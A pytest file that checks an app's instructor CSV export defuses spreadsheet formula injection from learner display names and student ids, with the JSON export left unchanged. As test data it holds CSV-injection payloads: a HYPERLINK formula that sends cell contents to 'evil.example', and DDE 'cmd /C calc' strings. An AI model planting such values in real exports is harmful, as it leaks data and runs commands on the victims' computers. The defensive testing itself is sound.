"""Hostile: a learner's display name or student id that a spreadsheet would run as a formula (`=HYPERLINK(...)`,
`+`, `-`, `@`, a leading tab or carriage return) reaches the instructor's CSV export as text, through the real
export route: prefixed with a single quote, in a quoted cell. The JSON export, which nothing executes, keeps
the value as the learner wrote it. The rule itself is app.spreadsheet (tests/app/test_spreadsheet.py)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from sqlalchemy import select

from app.instructor.models import LearnerProfile
from app.models import Learner
from tests.app.app_support import CORRECT, HeldGrader, TestClient, held_backend, run
from tests.app.conftest import Server
from tests.app.instructor_support import make_instructor, sign_in

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"grade")'  # fits a student id (64 characters)
FORMULAS = [
    pytest.param(HYPERLINK, id="equals-hyperlink"),
    pytest.param("+1+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
    pytest.param("@SUM(1+9)*cmd|' /C calc'!A0", id="at"),
]
# The profile form trims what the learner typed, so a leading tab or CR arrives only by another path (an
# import, a future sign-in that brings a name with it): those are written to the table directly.
WHITESPACE_FORMULAS = [
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage-return"),
]


@pytest.fixture
def site(make_server: Callable[..., Server]) -> dict[str, Any]:
    grader = HeldGrader()
    grader.release.set()  # verdicts at once: the export is what is tested
    server = make_server(backend_factory=held_backend(grader))
    make_instructor(server.app)
    learner = server.learner()
    run(learner, CORRECT)
    instructor = server.learner()
    sign_in(instructor)
    return {"server": server, "learner": learner, "instructor": instructor}


def set_profile_in_database(server: Server, *, display_name: str, student_id: str) -> None:
    with server.app.state.paperlab.session_factory() as session:
        learner_id = session.scalars(select(Learner.id)).one()
        session.add(LearnerProfile(learner_id=learner_id, display_name=display_name, student_id=student_id))
        session.commit()


def exported_csv(instructor: TestClient) -> tuple[str, dict[str, str]]:
    response = instructor.get("/api/instructor/export.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    return text, row


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_typed_into_the_profile_is_exported_as_text(site: dict[str, Any], formula: str) -> None:
    saved = site["learner"].post("/me/profile", data={"display_name": formula, "student_id": formula},
                                 follow_redirects=False)
    assert saved.status_code == 303
    text, row = exported_csv(site["instructor"])
    assert row["display_name"] == row["student_id"] == "'" + formula
    assert text.count(quoted("'" + formula)) == 2  # each one a quoted cell
    assert "," + formula not in text and "\n" + formula not in text  # no cell begins with the formula


@pytest.mark.parametrize("formula", WHITESPACE_FORMULAS)
def test_a_name_beginning_with_a_tab_or_carriage_return_is_exported_as_text(
    site: dict[str, Any], formula: str
) -> None:
    set_profile_in_database(site["server"], display_name=formula, student_id=formula)
    text, row = exported_csv(site["instructor"])
    assert row["display_name"] == row["student_id"] == "'" + formula
    assert text.count(quoted("'" + formula)) == 2


def test_numbers_stay_numbers_and_plain_text_is_unchanged(site: dict[str, Any]) -> None:
    site["learner"].post("/me/profile", data={"display_name": "Zoë, =1+1", "student_id": "s-1"})
    text, row = exported_csv(site["instructor"])
    assert (row["display_name"], row["student_id"], row["attempts"]) == ("Zoë, =1+1", "s-1", "1")
    data_line = text.splitlines()[1]
    assert data_line.endswith(",0,0")  # checks_passed, checks_total: unquoted numbers
    assert ',1,"' in data_line  # attempts: an unquoted number between quoted text cells


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_json_export_keeps_what_the_learner_wrote(site: dict[str, Any], formula: str) -> None:
    site["learner"].post("/me/profile", data={"display_name": formula, "student_id": formula})
    (row,) = site["instructor"].get("/api/instructor/export.json").json()
    assert row["display_name"] == row["student_id"] == formula
    assert isinstance(row["attempts"], int)
